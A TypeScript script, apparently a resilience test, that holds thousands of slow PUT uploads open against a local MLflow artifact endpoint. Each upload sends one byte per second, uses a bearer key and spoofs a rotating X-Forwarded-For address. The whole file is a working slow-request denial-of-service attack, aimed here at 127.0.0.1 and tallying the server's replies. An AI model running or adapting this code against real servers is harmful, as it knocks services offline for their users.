/** Keeps thousands of uploads of one key open, each of which sends a byte a second, and opens another for each that is closed. */
import { connect, type Socket } from 'node:net';
import { readOrders, Tally } from './orders.ts';

const { port, key, open, addresses, forMs } = readOrders<{
  port: number;
  key: string;
  /** Uploads at once. */
  open: number;
  addresses: readonly string[];
}>();

const TICK_MS = 100;
/** New ones a tick: all of them at once would be a flood of connections, which is another attack. */
const NEW_PER_TICK = 250;
const MOST_OPENED = 50_000;
const BYTE_EVERY_TICKS = 10;

const tally = new Tally();
const sockets = new Set<Socket>();

function upload(n: number): void {
  const socket = connect(port, '127.0.0.1');
  sockets.add(socket);
  let answered = false;
  socket.on('error', () => {});
  socket.on('close', () => sockets.delete(socket));
  socket.on('data', (chunk) => {
    if (answered) return;
    answered = true;
    tally.add(`answered ${chunk.toString('latin1', 9, 12)}`);
    socket.destroy();
  });
  socket.write(
    `PUT /api/mlflow/api/2.0/mlflow-artifacts/artifacts/a HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer ${key}\r\n` +
      `X-Forwarded-For: ${addresses[n % addresses.length]}\r\nContent-Length: 1000000\r\n\r\nx`,
  );
}

let opened = 0;
let ticks = 0;
setInterval(() => {
  ticks += 1;
  if (ticks % BYTE_EVERY_TICKS === 0) for (const socket of sockets) if (socket.writable) socket.write('x');
  for (let n = 0; n < NEW_PER_TICK && sockets.size < open && opened < MOST_OPENED; n += 1)
    upload((opened += 1));
  tally.most('open at most', sockets.size);
}, TICK_MS);

setTimeout(() => {
  tally.add('opened', opened);
  tally.report();
}, forMs);
